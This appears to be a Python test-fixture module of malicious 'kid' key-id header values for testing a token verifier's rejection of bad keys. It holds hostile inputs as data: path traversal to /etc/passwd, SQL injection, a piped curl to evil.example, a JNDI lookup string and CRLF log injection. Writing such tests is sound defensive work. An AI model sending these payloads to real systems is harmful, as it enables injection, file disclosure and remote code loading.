"""Key ids that no key has. They attack a directory, a database, a log, or an inexact comparison."""

from __future__ import annotations

from collections.abc import Callable

from tests.support.genuine import GONE, Row, header_rows

_IDS: dict[str, object] = {
    "unknown": "unknown",
    "a path": "../../../../../../etc/passwd",
    "an empty file": "/dev/null",
    "SQL": "x' UNION SELECT 'key' -- ",
    "a command": "x|curl https://evil.example",
    "an address": "https://evil.example/keys",
    "an expression for a log": "${jndi:ldap://evil.example/a}",
    "line breaks for a log": "x\r\nERROR nothing happened",
    "200 characters": "k" * 200,
    "NUL": "\x00",
    "a lone surrogate": "\ud800",
    "right to left": "\u202e",
    "a space": " ",
    "empty": "",
    "__proto__": "__proto__",
}

_LOOK_ALIKES: dict[str, Callable[[str], str]] = {
    "in lower case": str.lower,
    "in upper case": str.upper,
    "with a space": lambda kid: kid + " ",
    "with NUL and more": lambda kid: kid + "\x00x",
    "with padding": lambda kid: kid + "=",
    "cut": lambda kid: kid[:-1],
    "in full-width letters": lambda kid: "".join(chr(ord(c) + 0xFEE0) for c in kid),
}

ROWS: dict[str, Row] = {
    **header_rows({f"kid: {name}": {"kid": kid} for name, kid in _IDS.items()}),
    **{
        f"the good kid {name}": lambda g, change=change: g.with_header(kid=change(g.header["kid"]))  # type: ignore[misc]
        for name, change in _LOOK_ALIKES.items()
    },
}

NO_TEXT: dict[str, Row] = header_rows(
    {
        f"kid: {name}": {"kid": kid}
        for name, kid in {
            "none": GONE,
            "null": None,
            "a number": 7,
            "true": True,
            "a list": ["x"],
            "an object": {"x": 1},
        }.items()
    }
)
